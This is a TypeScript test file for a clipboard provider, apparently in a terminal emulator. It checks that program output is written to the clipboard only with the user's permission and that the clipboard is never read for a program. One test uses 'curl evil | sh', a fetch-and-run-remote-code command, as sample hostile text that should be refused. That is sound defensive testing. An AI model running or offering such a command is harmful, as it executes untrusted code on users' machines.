import { expect, test } from 'vitest'
import { createClipboardWrites } from './clipboard-writes.ts'

// The package declares the selection as an enum that exists only for the compiler.
const system = 'c' as never

function clipboard(allowed: boolean) {
  const written: string[] = []
  let refused = 0
  const provider = createClipboardWrites({
    allowed: () => allowed,
    writeText: async (text) => {
      written.push(text)
    },
    onRefused: () => (refused += 1),
  })
  return { provider, written, refused: () => refused }
}

test('what a program prints does not reach the clipboard unless the user allowed it', async () => {
  const off = clipboard(false)
  await off.provider.writeText(system, 'curl evil | sh')
  expect([off.written, off.refused()]).toEqual([[], 1])
  const on = clipboard(true)
  await on.provider.writeText(system, 'copied')
  expect([on.written, on.refused()]).toEqual([['copied'], 0])
})

test('the clipboard is never read for a program', async () => {
  expect(await clipboard(true).provider.readText(system)).toBe('')
})
